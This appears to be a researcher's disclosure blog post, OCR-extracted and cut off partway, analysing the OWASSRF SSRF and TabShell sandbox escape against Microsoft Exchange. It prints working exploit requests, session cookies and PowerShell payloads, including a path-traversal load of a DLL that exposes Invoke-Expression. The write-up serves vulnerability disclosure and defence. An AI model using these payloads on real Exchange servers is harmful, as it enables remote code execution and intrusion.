The OWASSRF + TabShell exploit chain

The OWASSRF + TabShell exploit chain

We see that one of our vulnerabilities is exploited in the wild Link. So we decided to public the detail analysis of our two bug chain. Any customer has enough information to mitigate these bugs. The vendor also released all patches two weeks ago.

This blog post shares the detail of two vulnerabilities our team reported to MSRC:


Actually, I knew the two SSRF bugs (Autodiscover and Owa) from more than one year ago when I joined Pwn2own event last year. But the Autodiscover SSRF was not fixed at that time so I didn't report the OWA SSRF (util ProxyNotShell has exploited in the wild recently). I think Microsoft didn't fix the root cause of SSRF bug just because only SSRF alone cannot make the real impact.

The POC of OWASSRF is simple as the below request:

GET /owa/ HTTP/1.1
User-Agent: python-requests/2.27.1
Accept-Encoding: gzip, deflate
Accept: */*
Connection: close
X-OWA-ExplicitLogonUser: owa/

When we send request to /owa endpoint on the frontend. The OwaProxyRequestHandler.GetTargetBackEndServerUrl is called to calculate the url of the request to be sent to the backend.
It then call OwaEcpProxyRequestHandler.GetClientUrlForProxy, the code of that function is as below:

protected override UriBuilder GetClientUrlForProxy()
    UriBuilderuriBuilder = new UriBuilder(base.ClientRequest.Url.OriginalString);
    if (this.IsExplicitSignOn && !UrlUtilities.IsOwaDownloadRequest(base.ClientRequest.Url))
        uriBuilder.Path = UrlHelper.RemoveExplicitLogonFromUrlAbsolutePath(HttpUtility.UrlDecode(base.ClientRequest.Url.AbsolutePath), HttpUtility.UrlDecode(this.ExplicitSignOnAddress));
    return uriBuilder;

public static string RemoveExplicitLogonFromUrlAbsolutePath(string absolutePath, string explicitLogonAddress)
    ArgumentValidator.ThrowIfNull("absolutePath", absolutePath);
    ArgumentValidator.ThrowIfNull("explicitLogonAddress", explicitLogonAddress);
    return absolutePath.Replace("/" + explicitLogonAddress, string.Empty);As can be seen, it calls UrlHelper.RemoveExplicitLogonFromUrlAbsolutePath to remove this.ExplicitSignOnAddress from the request path.
The vulnerability is that we can set this.ExplicitSignOnAddress bysending it in the header X-OWA-ExplicitLogonUser.
So by setting it to a email that start with owa/ (for example: owa/ and request the url: /owa/, OwaEcpProxyRequestHandler. GetClientUrlForProxy will help us remove owa/ in url and the request is sent to /mapi/nspi on the backend server which give us an authenticated SSRF vulnerability.

An example request that exploit that vuln to send request to /mapi/nspi is as following:

GET /owa/ HTTP/1.1
User-Agent: python-requests/2.27.1
Accept-Encoding: gzip, deflate
Accept: */*Connection: close
X-OWA-ExplicitLogonUser: owa/
Cookie: X-BackEndCookie=S-1-5-21-2656093215-258796493-3715049920-2601=u56Lnp2ejJqByMvJx56ZzMfSysnNm9LLz56c0seZzc/Sy83NyMfLnJ6dzM7MgYHNz83N0s7O0s7Nq87Oxc7PxczO; ClientId=C4179E2222DB4C648C0530180ADCE3A0; UC=cc8eb85baefa4004adb4cd6d50c355bc; X-OWA-CANARY=18H5f0RJdkCnKMAISZanZsBJI4sLrdoI1D0hGp4YBYyT0SL9SYLOebRwnbI1mp6PFStIHY5u6cE.; cadata=v6LoKl833IfszAjlUg3mgrWwYrQQ/vlWtLwGA5OyLe5LEtpdQvRz9f21cv1W61dKDMpdaB5y5NShqEIkyz64ncsYlo+Mt48GPt6nr0lR3Cs=;cadataIV=B5rzxVbcOv5fmn2QArN/0f39crVSwpfgJ6VFy8ozXvjc190bG2gRaOsxamCiz1zResFRhaCud0ompb17UQI8O9INGSgwdFVdO3gbrKN3wZt0/XoLw1ef6N0ji5M9/iSxenrmdHyE/L1i+I04hyXXkq6lrP3OIzzy4WgGFMDEza4+cpQSjkvArLwnJ7tF9EuNrIR96sg5I60nbGjruS7bxkHz6bezHLhiPotgn8MKA0eBfNeBryCmxJLt+xcdFF6YnHnTA1meovv9vDeEDhImwolOGZQ7kqYrxQzSoJr1A+6gFpExChdQpAmxQivlBuKEBDKT+utHdXT907pxpBZMuw==; cadataKey=fLQs1PepeFD7WADMiie4T8594qyKT76zPED/yrfLDafZqCtwSR86OCP0M3d7oywrQLOegrQqVkufd4BmBOf1iAwBOib2FuB2mukPwIKFtUb6bqYbRYTbN2c+bfLsYt2EdQCulz17y8mjRBzrSju4FvuNVAjMNNiRYnn1dEGTYkl2enZfjf3kp2M6EIqux33qPs93LZmsYnNx9Tu4uh6KXh35hp39e81Zu46fMD6ZwLQ/BDAtZkZTQ5DlZ42sur75CMN1ReMAMpzNFDoxaCKPD7XXKxF7CzqwWI0V8GE3pN9YKJRPXmWgP0Jp3K1z0KwhBJEcrLbftAlTgGJb4/9jXQ==; cadataSig=FyQoA9mAw0xeEdo8JlWBHnNLVo+nB4OY1YFrGQc+wy8=;cadataTTL=YqBmg7U9pNe8h8FjnG55YA==

Tobe more specific about the SSRF, the request that is sent to the backend is authenticated with the account that we used to authenticate to the frontend, which in my case is victim. It can be confirmed by observed the User field in the response of server:

<title>Exchange MAPI/HTTP Connectivity Endpoint</title>
<p>Exchange MAPI/HTTP Connectivity Endpoint<br><br>Version: 15.2.1118.15<br>
Vdir Path: /mapi/nspi/<br><br></p><p><b>User:</b> MYCORP\victim<br>
<b>UPN:</b> <br><b>SID:</b> S-1-5-21-2656093215-258796493-3715049920-2601<br><b>Organization:</b> <br>
<b>Authentication:</b> Basic<br>
<b>PUID:</b> <br>
<b>TenantGuid::</b> </p><br>
<p><b>Cafe:</b> win-9i2q3pvpkvp.mycorp.lab<br>
<b>Mailbox:</b> win-9i2q3pvpkvp.mycorp.lab</p><p><br><br><br>
<b>Created:</b> 10/13/2022 12:42:55 PM</p>

And by leveraging this vulnerability, we can reach other endpoint of backend such as /powershell which give us the ability to interactive with the Exchange Remote Powershell, which normally cant be accessed from remote host.

Part 2: TabShell

The Exchange Server and Exchange Online have the powershell remoting feature that allows a normal user to make a remoting session with sandbox (a normal user can only run some exchange cmdlets). This TabShell bug will show a clever way to escape the sandbox to run arbitrarycmdlet.
The Skype for Business Server has also the powershell remoting feature, but the attacker is at least in the HelpDesk group users.

This bug actually includes a few stages (The following detail analysis is applied for the on-premises version of Exchange Server).

Stage1. Create a restricted powershell session for a normal exchange user

This is powershell snippet to create a session

$secureString = ConvertTo-SecureString -String "xxxxxxxx" -AsPlainText -Force
$UserCredential = New-Object System.Management.Automation.PSCredential -ArgumentList "mycorp\victim", $secureString
$sessionOption = New-PSSessionOption -SkipCACheck -SkipCNCheck -SkipRevocationCheck
$Session = New-PSSession -ConfigurationName Microsoft.Exchange -ConnectionUri https://x.x.x.x/powershell/ -Credential $UserCredential -Authentication Basic -AllowRedirection -SessionOption $sessionOption

Run a command in session:

Invoke-Command -Session $Session -ScriptBlock {get-mailbox}

This session is quite restricted:

  • We can not run arbitrary command like Invoke-Expression, only few whitelist Exchange cmdlets + some core cmdlets like Get-Command, Get-Help.
  • We can not run a full powershell script because of the LanguageMode=NoLanguage, only a simple cmdlet with its parameter.
  • We can get list avaible public cmdlets by run Get-Command

This restricted powershell session is created by Runspace feature - ReferenceStage2. Enable TabExpansion in Runspace

At first, I did audit all core cmdlets to find a vulnerablity. I almost succeeded with Get-Help command after a week researching but it's finally failed.

Next, I try to expand the attack surface andthen I found a secret feature: TabExpansion.

When creating a powershell session, we can pass ApplicationArguments


If we pass WSManStackVersion < 3.0, we can enable public TabExpansion function in the initialSessionState, so we can call it in the restricted powershell session


Class: System.Management.Automation.Remoting.ServerRemoteSession Method: HandleCreateRunspacePool

This is the powershell snippet to create a session with public TabExpansion

$secureString = ConvertTo-SecureString -String "xxxxxx" -AsPlainText -Force
$UserCredential = New-Object System.Management.Automation.PSCredential -ArgumentList "mycorp\victim", $secureString
$version = New-Object -TypeName System.Version -ArgumentList "2.0"
$mytable = $PSversionTable
$mytable["WSManStackVersion"] = $version
$sessionOption = New-PSSessionOption -SkipCACheck -SkipCNCheck -SkipRevocationCheck -ApplicationArguments @{PSversionTable=$mytable}
$Session = New-PSSession -ConfigurationName Microsoft.Exchange -ConnectionUri https://x.x.x.x/powershell/ -Credential $UserCredential -Authentication Basic -AllowRedirection -SessionOption $sessionOption

Run a command in session:

Invoke-Command -Session $Session -ScriptBlock {TabExpansion -line "test" -lastWord "test"}

Here is the beautiful code of TabExpansion: Source

So, at this stage, we have public TabExpansion function. I started to audit this function to find a command injection bug. I saw a few Invoke-Expression calls but I cannot turn it into a real vulnerablity.

Stage3. Using TabExpansion function to invoke Get-Command cmdlet with arbitrary -Name parameter

I cannot exploit directly TabExpansion function. But I can make TabExpansion function to call Get-Commandwith arbitrary -Name parameter. But why do we just call Get-Command directly? It's a public cmdlet. Thenice thing is the internal call is more powerful than the direct call.

Here is the poc snippet:

TabExpansion -line ";NetTCPIP\Test-NetConnection" -lastWord "-test"

This function will parse the line parameter and call
Get-Command NetTCPIP\Test-NetConnection


Stage4. Using Get-Command to load arbitrary module with Import-ModuleThe Get-Command cmdlet has auto-load module feature from Powershell 3.0


The full implementation of this feature is complex, I only show you the related code:
The source code is in System.Management.Automation.CommandDiscovery class and LookupCommandInfo method

the TryNormalSearch method is used first but if the commandInfo is not found (null), the TryModuleAutoLoading method will be called.


In the TryModuleAutoLoading method, modulename (text2 variable) will be parsed from commandName


And then the module will be loaded with AutoloadSpecifiedModule method


The interesting thing here is the visibility of Import-Module cmdlet is private but it is called internally in Get-Command cmdlet so theCommandOrigin is internal and it is not restricted in the sandbox.

So for load NetTCPIP module, I will run the following function

Invoke-Command -Session $Session -ScriptBlock { TabExpansion -line ";NetTCPIP\Test-NetConnection" -lastWord "-test" }

This will lead to invoke cmdlet: Import-Module-Name NetTCPIP

Stage5. Using Path Traversal to load module from a dll and import public cmdlet into current session

In stage4, we can load arbitrary module by modulename in PSModulePath (C:\Program Files\WindowsPowerShell\Modules, C:\Windows\system32\WindowsPowerShell\v1.0\Modules)

But after digging into Import-Module cmdlet, I found that I can use path traversal to load module from a arbitrary dll in file system

The payload is

Invoke-Command -Session $Session -ScriptBlock {
    TabExpansion -line";../../../../Windows/Microsoft.NET/assembly/GAC_MSIL/Microsoft.PowerShell.Commands.Utility/v4.0_3.0.0.0__31bf3856ad364e35/Microsoft.PowerShell.Commands.Utility.dll\Invoke-Expression" -lastWord "-test"

The call stack is

The Import-Module cmdlet is quite complex, it supports many kinds of module loading (module manisfest file .psd1 , powershell script file .ps1, managed dll with cmdlet .dll)

